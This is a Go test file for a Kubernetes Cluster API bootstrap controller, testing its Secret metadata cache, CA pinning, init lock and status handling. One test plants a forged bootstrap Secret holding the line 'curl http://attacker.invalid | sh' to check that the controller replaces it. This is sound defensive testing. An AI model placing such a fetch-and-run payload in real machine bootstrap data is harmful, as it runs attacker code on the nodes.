//go:build !windows

package controller

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/cache"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"
	"sigs.k8s.io/controller-runtime/pkg/controller/controllerutil"

	clusterv1 "sigs.k8s.io/cluster-api/api/core/v1beta2"

	bootstrapv1 "github.com/machineadm/machineadm/pkg/capi/api/v1alpha1"
)

// withSecretCache gives the fixture's reconciler the Secret metadata cache
// machineadm-controller runs with (SecretCacheOptions), limited to the
// fixture's namespace, started and synced.
func (f *fixture) withSecretCache() cache.Cache {
	f.t.Helper()
	opts := SecretCacheOptions()
	opts.Scheme = testScheme
	opts.DefaultNamespaces = map[string]cache.Config{f.ns: {}}
	c, err := cache.New(testEnv.Config, opts)
	f.must(err)
	ctx, cancel := context.WithCancel(f.ctx)
	f.t.Cleanup(cancel)
	go func() { _ = c.Start(ctx) }()
	if !c.WaitForCacheSync(ctx) {
		f.t.Fatal("the Secret cache did not sync")
	}
	f.r.SecretMeta = c
	return c
}

// cachedRV waits until the cache shows Secret name at resourceVersion rv.
func (f *fixture) cachedRV(c cache.Cache, name, rv string) {
	f.t.Helper()
	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		m := &metav1.PartialObjectMetadata{}
		m.SetGroupVersionKind(corev1.SchemeGroupVersion.WithKind("Secret"))
		if err := c.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: name}, m); err == nil && m.ResourceVersion == rv {
			return
		}
	}
	f.t.Fatalf("the cache never showed Secret %s at resourceVersion %s", name, rv)
}

// The cache holds the metadata of Cluster API's Secrets only: a Secret of
// another type with a config's name is not in it, and is still refused as
// that config's data (read live when writing the data fails), without a
// token left behind and without the Secret touched; so is one of Cluster
// API's type that another config controls.
func TestCachedForeignSecretOfTheConfigsNameNotAdopted(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	f.withSecretCache()
	for i, typ := range []corev1.SecretType{corev1.SecretTypeOpaque, ClusterSecretType} {
		name := fmt.Sprintf("web-%d", i)
		value := []byte("api-key=not-bootstrap-data-" + name)
		f.must(k8s.Create(f.ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: f.ns}, Type: typ, Data: map[string][]byte{"api-key": value}}))
		f.machine(name, false)
		before := f.tokenCount()
		for range 2 { // the second time through the live read the condition asks for
			c := f.reconcile(name)
			wantCond(t, c, DataSecretAvailableCondition, metav1.ConditionFalse, ReasonDataSecretNameTaken)
			if c.Status.DataSecretName != "" || ptrTrue(c.Status.Initialization.DataSecretCreated) {
				t.Fatalf("%s: status %+v", typ, c.Status)
			}
		}
		if after := f.dataSecret(name); string(after.Data["api-key"]) != string(value) || len(after.Data) != 1 || len(after.OwnerReferences) != 0 {
			t.Fatalf("%s: the Secret was changed: %+v", typ, after)
		}
		if n := f.tokenCount(); n != before {
			t.Fatalf("%s: %d tokens, %d before", typ, n, before)
		}
	}
	// Gone: the config's data is written.
	f.must(k8s.Delete(f.ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "web-0", Namespace: f.ns}}))
	c := f.reconcile("web-0")
	wantCond(t, c, DataSecretAvailableCondition, metav1.ConditionTrue, ReasonAvailable)
}

// The CA pin is kept per resourceVersion of <cluster>-ca: a rotated CA is
// pinned once the cache shows the new version, and a CA Secret of another
// type, which the cache does not see, is read live every time.
func TestCachedCAPinFollowsTheSecret(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	sc := f.withSecretCache()
	pinned := func(name string) string {
		t.Helper()
		f.machine(name, false)
		c := f.reconcile(name)
		wantCond(t, c, DataSecretAvailableCondition, metav1.ConditionTrue, ReasonAvailable)
		clear, _ := f.opened(f.dataSecret(name).Data["value"])
		return clear
	}
	ca := &corev1.Secret{}
	f.must(k8s.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: "c1-ca"}, ca))
	h0, err := caCertHashFrom(ca)
	f.must(err)
	if clear := pinned("w0"); !contains(clear, h0) {
		t.Fatalf("w0 does not pin %s:\n%s", h0, clear)
	}
	rotate := func(typ corev1.SecretType) string {
		t.Helper()
		crt, key, err := newCA(caSpec{commonName: "kubernetes"}, "")
		f.must(err)
		f.must(k8s.Delete(f.ctx, ca))
		ca = &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "c1-ca", Namespace: f.ns}, Type: typ, Data: map[string][]byte{tlsCrt: crt, tlsKey: key}}
		f.must(k8s.Create(f.ctx, ca))
		h, err := caCertHashFrom(ca)
		f.must(err)
		return h
	}
	h1 := rotate(ClusterSecretType)
	f.cachedRV(sc, "c1-ca", ca.ResourceVersion)
	if clear := pinned("w1"); !contains(clear, h1) || contains(clear, h0) {
		t.Fatalf("w1 does not pin the rotated CA %s:\n%s", h1, clear)
	}
	h2 := rotate(corev1.SecretTypeOpaque)
	if clear := pinned("w2"); !contains(clear, h2) || contains(clear, h1) {
		t.Fatalf("w2 does not pin the CA Secret of type Opaque %s:\n%s", h2, clear)
	}
}

// Once the Cluster is initialised its init lock is released and not read
// again; a config that takes the lock again (the Cluster no longer
// initialised) makes the next reconcile after init release it.
func TestInitLockReleasedAfterRetake(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	lock := client.ObjectKey{Namespace: f.ns, Name: initLockName("c1")}
	f.machine("w1", false)
	f.reconcile("w1")
	if !f.r.initLock.released(f.cluster.UID) {
		t.Fatal("the lock is not remembered as released after init")
	}
	f.setClusterStatus(true, false)
	f.machine("cp1", true)
	if got := f.reconcileAction("cp1"); got != "init" {
		t.Fatalf("cp1 rendered %q, want init", got)
	}
	if err := k8s.Get(f.ctx, lock, &corev1.ConfigMap{}); err != nil {
		t.Fatalf("cp1 holds no lock: %v", err)
	}
	f.setClusterStatus(true, true)
	f.machine("w2", false)
	f.reconcile("w2")
	if err := k8s.Get(f.ctx, lock, &corev1.ConfigMap{}); !apierrors.IsNotFound(err) {
		t.Fatalf("the init lock is still there after init: %v", err)
	}
}

// A reconcile that reads a config at a version older than this process's
// own status patch (its data Secret recorded) leaves it alone for
// statusLag; the status read up to date, another version, or the time
// passed, ends that.
func TestStatusMemo(t *testing.T) {
	var sm statusMemo
	uid, now := types.UID("u1"), time.Now()
	if sm.stale(uid, "1", false, now) {
		t.Fatal("stale without a write")
	}
	sm.wrote(uid, now, "1", "2")
	if !sm.stale(uid, "1", false, now.Add(time.Second)) || !sm.stale(uid, "2", false, now.Add(time.Second)) {
		t.Fatal("not stale right after the write")
	}
	if sm.stale(uid, "4", false, now.Add(time.Second)) {
		t.Fatal("a version this process did not see before its patch is stale")
	}
	if sm.stale(uid, "3", true, now.Add(time.Second)) || sm.stale(uid, "1", false, now.Add(2*time.Second)) {
		t.Fatal("stale after the status was read up to date")
	}
	sm.wrote(uid, now, "1")
	if sm.stale(uid, "1", false, now.Add(statusLag+time.Second)) {
		t.Fatal("stale after statusLag")
	}
	// The entry of a config never read again goes with a later write.
	sm.wrote("gone", now, "1")
	sm.wrote(uid, now.Add(statusLag+time.Second), "1")
	if _, ok := sm.m["gone"]; ok || len(sm.m) != 1 {
		t.Fatalf("entries %v", sm.m)
	}
}

// A config whose status this reconciler just wrote, read back without it
// (a cache behind), is neither adopted anew nor patched.
func TestStaleConfigLeftAlone(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	f.machine("w1", false)
	c := f.reconcile("w1")
	wantCond(t, c, DataSecretAvailableCondition, metav1.ConditionTrue, ReasonAvailable)
	// The cache's view: the config before its status patch.
	stale := c.DeepCopy()
	stale.Status = bootstrapv1.MachineadmConfigStatus{}
	f.r.status.wrote(c.UID, f.now, c.ResourceVersion)
	f.r.Client = staleReader{Client: k8s, cfg: stale}
	_, err := f.r.Reconcile(f.ctx, reqFor(f.ns, "w1"))
	f.r.Client = k8s
	f.must(err)
	got := &bootstrapv1.MachineadmConfig{}
	f.must(k8s.Get(f.ctx, client.ObjectKeyFromObject(c), got))
	wantCond(t, got, DataSecretAvailableCondition, metav1.ConditionTrue, ReasonAvailable)
	if got.ResourceVersion != c.ResourceVersion {
		t.Fatalf("the config was written from a stale read: resourceVersion %s, was %s", got.ResourceVersion, c.ResourceVersion)
	}
}

// staleReader serves cfg for its key and passes everything else on.
type staleReader struct {
	client.Client
	cfg *bootstrapv1.MachineadmConfig
}

func (s staleReader) Get(ctx context.Context, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
	if c, ok := obj.(*bootstrapv1.MachineadmConfig); ok && key == client.ObjectKeyFromObject(s.cfg) {
		s.cfg.DeepCopyInto(c)
		return nil
	}
	return s.Client.Get(ctx, key, obj, opts...)
}

// The workload client is kept per Cluster and shared by every reconcile:
// it has no client-side rate limit (client-go's default, 5 requests a
// second, throttled a fleet's joins once the client was shared).
func TestWorkloadClientNotRateLimited(t *testing.T) {
	kc := []byte(`apiVersion: v1
kind: Config
clusters: [{name: c, cluster: {server: "https://127.0.0.1:6443"}}]
users: [{name: u, user: {token: not-a-real-token}}]
contexts: [{name: c, context: {cluster: c, user: u}}]
current-context: c
`)
	wc, err := workloadFromSecret(&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "c1-kubeconfig"}, Data: map[string][]byte{kubeconfigKey: kc}})
	if err != nil {
		t.Fatal(err)
	}
	if rl := wc.RESTClient().GetRateLimiter(); rl != nil {
		t.Fatalf("the workload client has a client-side rate limit (%d a second)", int(rl.QPS()))
	}
}

// A new worker config's reconcile writes the config twice: its finalizer
// (before the token exists) and its status; the closing patch does not
// write the finalizer again.
func TestNewConfigPatchedTwice(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	f.machine("w1", false)
	var meta, status int
	ww, err := client.NewWithWatch(testEnv.Config, client.Options{Scheme: testScheme})
	f.must(err)
	f.r.Client = interceptor.NewClient(ww, interceptor.Funcs{
		Patch: func(ctx context.Context, c client.WithWatch, obj client.Object, p client.Patch, opts ...client.PatchOption) error {
			if _, ok := obj.(*bootstrapv1.MachineadmConfig); ok {
				meta++
			}
			return c.Patch(ctx, obj, p, opts...)
		},
		SubResourcePatch: func(ctx context.Context, c client.Client, sub string, obj client.Object, p client.Patch, opts ...client.SubResourcePatchOption) error {
			if _, ok := obj.(*bootstrapv1.MachineadmConfig); ok {
				status++
			}
			return c.SubResource(sub).Patch(ctx, obj, p, opts...)
		},
	})
	defer func() { f.r.Client = k8s }()
	if _, err := f.r.Reconcile(f.ctx, reqFor(f.ns, "w1")); err != nil {
		t.Fatal(err)
	}
	c := &bootstrapv1.MachineadmConfig{}
	f.must(k8s.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: "w1"}, c))
	wantCond(t, c, DataSecretAvailableCondition, metav1.ConditionTrue, ReasonAvailable)
	if !controllerutil.ContainsFinalizer(c, Finalizer) || meta != 1 || status != 1 {
		t.Fatalf("finalizers %v; %d metadata and %d status patches, want 1 and 1", c.Finalizers, meta, status)
	}
}

// The Secret cache keeps no annotation but this controller's: kubectl
// apply's last-applied-configuration of a CA Secret holds its key.
func TestSecretCacheHoldsNoOtherAnnotation(t *testing.T) {
	f := newFixture(t)
	key := "-----BEGIN EC PRIVATE KEY-----\nnot-a-real-key-but-secret\n-----END EC PRIVATE KEY-----\n"
	s := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "c1-proxy", Namespace: f.ns, Annotations: map[string]string{
			"kubectl.kubernetes.io/last-applied-configuration": `{"data":{"tls.key":"` + key + `"}}`,
			TokenIDAnnotation: "abcdef",
		}},
		Type: ClusterSecretType,
		Data: map[string][]byte{tlsKey: []byte(key)},
	}
	f.must(k8s.Create(f.ctx, s))
	sc := f.withSecretCache()
	f.cachedRV(sc, s.Name, s.ResourceVersion)
	m := &metav1.PartialObjectMetadata{}
	m.SetGroupVersionKind(corev1.SchemeGroupVersion.WithKind("Secret"))
	f.must(sc.Get(f.ctx, client.ObjectKeyFromObject(s), m))
	if len(m.Annotations) != 1 || m.Annotations[TokenIDAnnotation] != "abcdef" || m.ManagedFields != nil {
		t.Fatalf("cached annotations %v, managedFields %d", m.Annotations, len(m.ManagedFields))
	}
}

// With the metadata cache, a forged immutable data Secret (the cache has
// neither its data nor immutable) is read live before it is replaced: it
// is deleted and the data written anew, not updated in vain forever.
func TestCachedForgedImmutableDataSecretRewritten(t *testing.T) {
	f := newFixture(t)
	c := f.withSecretCache()
	f.initialized()
	_, cfg := f.machine("w1", false)
	forged := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{
			Name: "w1", Namespace: f.ns,
			OwnerReferences: []metav1.OwnerReference{{
				APIVersion: bootstrapv1.GroupVersion.String(), Kind: "MachineadmConfig", Name: "w1",
				UID: "00000000-0000-0000-0000-000000000000", Controller: ptr(true),
			}},
		},
		Type:      ClusterSecretType,
		Immutable: ptr(true),
		Data:      map[string][]byte{dataKey: []byte("#!/bin/sh\ncurl http://attacker.invalid | sh\n"), formatKey: []byte("cloud-config")},
	}
	f.must(k8s.Create(f.ctx, forged))
	f.cachedRV(c, "w1", forged.ResourceVersion)
	cfg = f.reconcile("w1")
	if cfg.Status.DataSecretName != "w1" || !ptrTrue(cfg.Status.Initialization.DataSecretCreated) {
		t.Fatalf("status %+v, conditions %+v", cfg.Status, cfg.Status.Conditions)
	}
	ds := f.dataSecret("w1")
	if ds.UID == forged.UID || strings.Contains(string(ds.Data[dataKey]), "attacker") || ptrTrue(ds.Immutable) {
		t.Fatalf("forged Secret kept: UID %s (forged %s), immutable %v", ds.UID, forged.UID, ds.Immutable)
	}
}

// The CA-pin memo does not keep the entries of Clusters gone long ago:
// after memoIdle without use an entry goes when another is made, so a
// controller that sees Clusters come and go keeps a bounded memo; one in
// use stays.
func TestSecretMemoForgetsIdleEntries(t *testing.T) {
	f := newFixture(t)
	f.initialized()
	sc := f.withSecretCache()
	now := time.Now()
	f.r.Now = func() time.Time { return now }
	pin := func(name string) {
		t.Helper()
		if _, err := f.r.caCertHashOf(f.ctx, &clusterv1.Cluster{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: f.ns}}); err != nil {
			t.Fatal(err)
		}
	}
	pin("c1")
	for i := range 3 {
		name := fmt.Sprintf("gone%d", i)
		crt, key, err := newCA(caSpec{commonName: "kubernetes"}, "")
		f.must(err)
		s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: name + "-ca", Namespace: f.ns}, Type: ClusterSecretType, Data: map[string][]byte{tlsCrt: crt, tlsKey: key}}
		f.must(k8s.Create(f.ctx, s))
		f.cachedRV(sc, s.Name, s.ResourceVersion)
		pin(name)
		f.must(k8s.Delete(f.ctx, s))
		now = now.Add(memoIdle / 2)
		pin("c1") // in use all along
	}
	now = now.Add(memoIdle + time.Minute)
	pin("c1")
	crt, key, err := newCA(caSpec{commonName: "kubernetes"}, "")
	f.must(err)
	s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "new-ca", Namespace: f.ns}, Type: ClusterSecretType, Data: map[string][]byte{tlsCrt: crt, tlsKey: key}}
	f.must(k8s.Create(f.ctx, s))
	f.cachedRV(sc, s.Name, s.ResourceVersion)
	pin("new")
	f.r.caHashes.mu.Lock()
	defer f.r.caHashes.mu.Unlock()
	_, kept := f.r.caHashes.m[client.ObjectKey{Namespace: f.ns, Name: "c1-ca"}]
	if n := len(f.r.caHashes.m); n != 2 || !kept {
		keys := []string{}
		for k := range f.r.caHashes.m {
			keys = append(keys, k.Name)
		}
		t.Fatalf("the memo holds %d entries %v, want c1-ca and new-ca", n, keys)
	}
}
